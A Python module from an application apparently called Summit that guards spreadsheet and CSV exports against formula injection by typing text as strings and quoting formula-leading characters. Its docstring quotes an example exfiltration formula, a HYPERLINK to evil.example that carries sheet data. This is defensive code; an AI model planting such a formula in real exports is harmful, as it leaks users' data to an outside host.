"""Text that leaves Summit in a spreadsheet is shown, never run (issue 14).

A comment, a progress note or a team name is typed by a person, and a spreadsheet opened by
someone else runs a cell that starts like a formula (`=HYPERLINK("http://evil.example/?"&A2,…)`
sends the sheet's figures away). The two file kinds need two defences:

- .xlsx has cell types: openpyxl turns any text beginning with `=` into a formula (`<f>`), so
  `text_cell` and `put` store text as an explicit string cell (an inline string, no `<f>`).
  Nothing is added to the text, so the upload of a returns workbook reads back what was written.
- CSV has no cell types: `csv_text` follows OWASP's CSV-injection advice and puts a single quote
  before text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, and keeps a
  carriage return inside its cell.

Numbers are never touched: only `str` values are, so a negative number stays a number. Callers
pass text columns only where a number is already written as text (CSV). openpyxl is loaded
only when a workbook is written, as the exports that use this module do.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell import Cell

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: Any) -> Any:
    """A CSV cell that a spreadsheet shows as text: text starting like a formula gets a `'`.

    A carriage return becomes a line feed: Python 3.11's csv writer quotes only the characters
    of its line terminator (a line feed in Summit's exports), so a bare carriage return went out
    unquoted and started a new row, whose first cell could be a formula no quote had guarded.
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_LEADS):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n")


def put(cell: Cell, value: Any) -> Cell:
    """Write `value` into an openpyxl cell; text as text (data type "s"), never as a formula."""
    cell.value = value
    if isinstance(value, str):
        # openpyxl types "=…" as a formula and "#N/A"-like text as an error; the written text
        # is the same either way, only its type changes.
        cell.data_type = "s"
    return cell


def text_cell(sheet: Any, value: Any) -> Any:
    """A value for `sheet.append`: text as a text cell of `sheet`, anything else unchanged."""
    if isinstance(value, str):
        from openpyxl.cell import WriteOnlyCell  # noqa: PLC0415 (heavy; only for a workbook)

        return put(WriteOnlyCell(sheet), value)
    return value


def row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append` (normal or write-only) whose text cells are text, not formulas."""
    return [text_cell(sheet, value) for value in values]
